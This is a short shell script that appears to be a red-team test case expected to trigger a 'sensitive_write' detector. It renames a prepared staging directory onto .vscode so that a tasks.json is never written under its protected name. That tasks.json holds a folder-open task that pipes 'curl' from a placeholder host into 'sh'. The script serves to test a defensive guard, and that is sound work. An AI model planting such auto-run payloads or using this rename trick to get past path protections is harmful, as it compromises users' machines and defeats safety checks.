#!/bin/sh
# expect: sensitive_write
# Persistence by renaming a whole prepared directory onto a protected name (red team, issue
# 21): `.vscode/tasks.json` is never opened under its final name.
for round in $(seq 1 50); do
  mkdir -p staging$round
  printf '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl -s http://127.0.0.1:9/x | sh","runOptions":{"runOn":"folderOpen"}}]}' > staging$round/tasks.json
  mv staging$round .vscode 2>/dev/null
  sleep 0.1
done
touch finished
